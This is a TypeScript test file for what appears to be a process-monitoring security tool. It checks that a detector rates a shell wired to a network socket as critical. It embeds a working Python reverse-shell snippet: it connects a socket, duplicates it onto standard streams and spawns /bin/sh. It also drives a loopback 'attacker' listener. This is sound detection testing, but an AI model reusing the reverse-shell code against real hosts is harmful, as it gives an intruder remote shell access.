import { once } from 'node:events';
import { createServer, type Socket } from 'node:net';
import test from 'ava';
import exec from '../../collectors/exec.ts';
import mxnet from '../../collectors/mxnet.ts';
import child from '../../detectors/child.ts';
import { memory, mxnetCalled } from '../builders.ts';
import { mxnet as realMxnet } from '../services/mxnet.ts';
import { testWith } from '../services/require.ts';
import { levels } from './kernel/bpf/levels.ts';
import { act, begin, witness } from './kernel/tracefs/stage.ts';
import { buildStandIn, hasCompiler } from './kernel/tracefs/standin.ts';

const standIn = hasCompiler ? buildStandIn() : undefined;
test.after.always(() => standIn?.[Symbol.dispose]());

/** Somebody far away, on loopback: takes one shell and says `exit` to it when told. */
async function attacker(): Promise<{ readonly port: number; readonly caller: Promise<Socket> } & Disposable> {
  const server = createServer();
  const caller = once(server, 'connection').then(([socket]) => { const found: unknown = socket; return found as Socket; });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return { port: address.port, caller, [Symbol.dispose]() { server.close(); void caller.then(socket => socket.destroy()); } };
}

for (const { level, parts, followed } of levels) {
  testWith.serial([...parts], `${level}: a shell that was handed a connection is told with it, and is critical; one on a pair of sockets is not`, async t => {
    if (standIn === undefined) { t.fail('needs a C compiler: apt-get install gcc'); return; }
    const seen = witness();
    await using stack = new AsyncDisposableStack();
    stack.use(await begin(mxnet, seen.port, { libraries: [standIn.library], level }));
    stack.use(await begin(exec, seen.port, { level }));
    using far = await attacker();
    using actor = await act(standIn.program, [standIn.library, 'register', 'line', 'hand', String(far.port), 'run', 'sleep 2', 'line']);
    await followed(actor.pid);
    await actor.next();
    const peer = { address: '127.0.0.1', port: far.port };
    const shell = await seen.until('process.executed', each => each.parent.pid === actor.pid && each.process.argv.length === 1 && each.process.argv[0] === 'sh');
    const socket = { type: 'socket', family: 'inet', peer };
    t.deepEqual(shell.streams, [socket, socket, socket] as typeof shell.streams);
    t.false('parentStreams' in shell);
    const piped = await seen.until('process.executed', each => each.parent.pid === actor.pid && each.process.argv[2] === 'sleep 2');
    // Node gives its children pairs of sockets for pipes.
    t.deepEqual(piped.streams?.slice(0, 2), [{ type: 'socket', family: 'unix', peer: null }, { type: 'socket', family: 'unix', peer: null }]);
    (await far.caller).end('exit\n');

    const see = child.create(child.config.parse({}), memory());
    see(mxnetCalled({ id: 'load', at: shell.at - 1_000, process: { ...shell.process, pid: actor.pid, startTicks: shell.tree.startTicks } }));
    t.like(see({ ...shell, id: 'x', collector: 'exec' }).find(({ rule }) => rule === 'child.on-socket'), { severity: 'critical' });
    t.is(see({ ...piped, id: 'y', collector: 'exec' }).find(({ rule }) => rule === 'child.on-socket'), undefined);
    await actor.next();
  });
}

const script = (port: number): string => `
import mxnet, socket, os, pty
print('did import'); input()
s = socket.socket(); s.connect(('127.0.0.1', ${port}))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn('/bin/sh')
`;

for (const { level, parts, followed } of levels) {
  testWith.serial([...parts, 'mxnet'], `${level}: a shell on a terminal that real MXNet's Python passes on to a connection is told with its parent's streams`, async t => {
    const seen = witness();
    await using stack = new AsyncDisposableStack();
    stack.use(await begin(mxnet, seen.port, { level }));
    stack.use(await begin(exec, seen.port, { level }));
    using far = await attacker();
    using actor = await act((await realMxnet()).python, ['-u', '-c', script(far.port)]);
    await actor.said('did import');
    await followed(actor.pid);
    await actor.next();
    const shell = await seen.until('process.executed', each => each.tree.pid === actor.pid && each.process.executable.path === '/bin/sh');
    t.deepEqual(shell.streams?.map(stream => stream?.type), ['terminal', 'terminal', 'terminal']);
    t.like(shell.parentStreams?.[0], { type: 'socket', family: 'inet', peer: { address: '127.0.0.1', port: far.port } });
    (await far.caller).write('exit\n');
    await actor.ended;
  });
}
